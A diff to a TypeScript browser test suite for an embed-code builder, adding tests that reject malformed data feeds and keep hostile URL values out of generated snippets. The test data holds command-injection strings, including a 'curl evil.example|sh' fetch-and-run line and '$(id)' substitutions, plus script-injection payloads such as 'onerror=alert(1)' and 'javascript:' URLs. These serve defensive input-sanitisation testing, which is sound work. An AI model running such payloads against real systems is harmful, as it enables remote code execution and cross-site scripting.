@@ -5,6 +5,7 @@ import { emulateMedia, sendKeys } from '../elements/support/browser.js';
 import { builtManifest } from '../elements/support/embedded.js';
 import { elements, type SharedElement } from '../elements/support/every-element.js';
 import { openDemo, type Page } from '../elements/support/page.js';
+import { serveFeed } from '../elements/support/server.js';
 import { headingOf, loaded, textOf, until } from '../elements/support/stage.js';
 
 const TAGS = elements.map(({ tag }) => tag);
@@ -34,7 +35,7 @@ async function open(hash = '', more: { strict?: boolean; width?: number } = {}):
 }
 
 function choose(name: string, value: string): void {
-  const radio = control(`[name="${name}"][value="${value}"]`);
+  const radio = control(`[name="${name}"][value="${CSS.escape(value)}"]`);
   if (radio) radio.click();
   else {
     const field = control(`[name="${name}"]`);
@@ -193,6 +194,109 @@ describe('the embed builder', () => {
     expect(made.querySelector('indicator-trend')!.getAttribute('heading')).to.equal(heading);
     expect(made.querySelector('indicator-trend')!.getAttributeNames()).to.deep.equal(['src', 'heading']);
     expect(page.trouble).to.deep.equal([]);
+  });
+
+  for (const [why, feed, says] of [
+    ['an observation that is nothing', { indicators: [{ id: 'a', kind: 'score', label: 'A' }], observations: [null] }, /observations\[0\] ska vara ett objekt/],
+    ['an indicator without a label', { indicators: [{ id: 'a', kind: 'score' }], observations: [null] }, /indicators\[0\]\.label/],
+    ['indicators that are no list', { indicators: {}, observations: [] }, /indicators ska vara en lista/],
+    ['an indicator that is nothing', { indicators: [null], observations: [] }, /indicators\[0\] ska vara ett objekt/],
+    ['areas that are no list', { areas: 7, indicators: [], observations: [] }, /areas ska vara en lista/],
+    ['an area without a code', { areas: [{ name: 'A' }], indicators: [], observations: [] }, /areas\[0\]\.code/],
+    ['a label that is a number', { indicators: [{ id: 'a', label: { sv: 5 } }], observations: [] }, /indicators\[0\]\.label/],
+    ['a dimension without a label', { dimensions: [{ id: 'a' }], indicators: [], observations: [] }, /dimensions\[0\]\.label/],
+    ['observations that are a number', { indicators: [], observations: 7 }, /observations ska vara/],
+    ['a column that is nothing', { indicators: [], observations: { indicator: [], area: null, period: [] } }, /observations\.area/],
+    ['nothing', null, /inte ett flöde/],
+    ['a list', [], /inte ett flöde/],
+    ['a number', 7, /inte ett flöde/],
+    ['no indicators', { indicators: [], observations: [] }, /inga siffror som går att visa/],
+    ['no JSON', undefined, /inte JSON/],
+  ] as const) {
+    it(`says in Swedish what is wrong with a feed of ${why}, and goes on`, async () => {
+      const { url } = await serveFeed(feed === undefined ? { body: '{"indicators":' } : { json: feed });
+      await open();
+      choose('src', 'other');
+      choose('address', url);
+      await until(why, () => says.test(textOf(page.document.querySelector('#trouble'))));
+      expect(shown()).to.equal(null);
+      expect(codes()).to.deep.equal([]);
+      choose('address', 'fixtures/valid/skift.json');
+      await ready('indicator-trend');
+      expect(textOf(page.document.querySelector('#trouble'))).to.equal('');
+      expect(page.trouble).to.deep.equal([]);
+    });
+  }
+
+  for (const base of [
+    'https://a.example/$(touch /x);curl evil.example|sh;#/',
+    "https://a.example/'&&id&&'/",
+    'https://a.example/a&id/',
+    'https://a.example/?a&id',
+    'https://$(id).example/',
+    'https://a@evil.example/',
+    'https://a.example/"><img src=x onerror=alert(1)>',
+    'javascript:alert(1)//',
+    'data:text/javascript,alert(1)//',
+    'file:///etc/',
+    '//evil.example/',
+    '$(id)',
+  ]) {
+    it(`puts nothing of a folder at ${base} into the code, and says so`, async () => {
+      await open(`#${new URLSearchParams({ base })}`);
+      const own = new URL('/__strict__/', location.href).href;
+      for (const way of ['', 'frame', 'page']) {
+        choose('way', way);
+        await until(way, () => page.document.querySelector<HTMLInputElement>(`[name=way][value="${way}"]`)!.checked && codes().join('').includes(way === 'page' ? 'npx' : way === 'frame' ? '<iframe' : '<script'));
+        const text = codes().join('\n');
+        expect(text).to.contain(`="${own}`);
+        // What a shell would take for its own, outside of the tags.
+        for (const part of codes().filter((code) => !code.startsWith('<'))) expect(part).to.match(/^[\w@/. \n-]+$/);
+        expect(text).to.not.match(/evil|a\.example|\bid\b|alert|etc/);
+        expect(textOf(page.document.querySelector('#base-trouble'))).to.match(/används inte/);
+      }
+      choose('base', 'https://b.example/delat/1.2.3');
+      await until('the new folder', () => codes().join('').includes('="https://b.example/delat/1.2.3/snapshot.css"'));
+      expect(textOf(page.document.querySelector('#base-trouble'))).to.equal('');
+      expect(page.trouble).to.deep.equal([]);
+    });
+  }
+
+  it('writes a folder as an address, whatever signs are in its name', async () => {
+    await open(`#${new URLSearchParams({ base: 'https://a.example/`id` å"<|' })}`);
+    expect(codes()[0]).to.contain('="https://a.example/%60id%60%20%C3%A5%22%3C');
+    expect(codes()[0]).to.not.match(/["<|`] ?å|`/);
+  });
+
+  it('takes every other value of an address as a choice or as text, in all three ways', async () => {
+    const evil = `"';</script><img src=x onerror=alert(1)>$(id)\`id\`}*{--x:url(//evil.example)`;
+    const names = ['element', 'indicator', 'area', 'compare', 'group', 'analysis', 'period', 'from', 'sort', 'view', 'heading', 'heading-level', 'lang', 'scheme', 'screen', '--indicator-own', '--indicator-other', '--indicator-quiet', '--indicator-font', '--indicator-font-size', 'version', '__proto__'];
+    for (const way of ['', 'frame', 'page']) {
+      await open(`#${new URLSearchParams([...names.map((name) => [name, evil]), ['way', way]])}`);
+      expect(page.document.querySelector<HTMLInputElement>('[name=way]:checked')!.value).to.equal(way);
+      const made = new DOMParser().parseFromString(codes().filter((code) => code.startsWith('<')).join(''), 'text/html');
+      expect(made.querySelector('img, [onerror], script:not([src], [integrity])')).to.equal(null);
+      // The heading alone is free text: in its attribute, in the fallback, in the frame's address.
+      const element = made.querySelector('indicator-trend');
+      expect(element?.getAttributeNames() ?? []).to.deep.equal(way === 'frame' ? [] : ['src', 'heading']);
+      const frame = made.querySelector('iframe');
+      if (frame) expect([...new URL(frame.src).searchParams.keys()]).to.deep.equal(['element', 'src', 'heading']);
+      expect(codes().filter((code) => !code.startsWith('<')).join('')).to.not.match(/evil|id\b/);
+      expect(page.trouble).to.deep.equal([]);
+      if (way !== 'page') page.close();
+    }
+  });
+
+  it('reads numbers from http and https alone', async () => {
+    for (const address of ['data:application/json,{"indicators":[]}', 'javascript:alert(1)', `blob:${location.origin}/x`, 'file:///x.json']) {
+      await open();
+      choose('src', 'other');
+      choose('address', address);
+      await until(address, () => /kunde inte läsas.*https/.test(textOf(page.document.querySelector('#trouble'))));
+      expect(codes()).to.deep.equal([]);
+      expect(page.trouble).to.deep.equal([]);
+      if (!address.startsWith('file')) page.close();
+    }
   });
 
   for (const colorScheme of ['light', 'dark'] as const) {
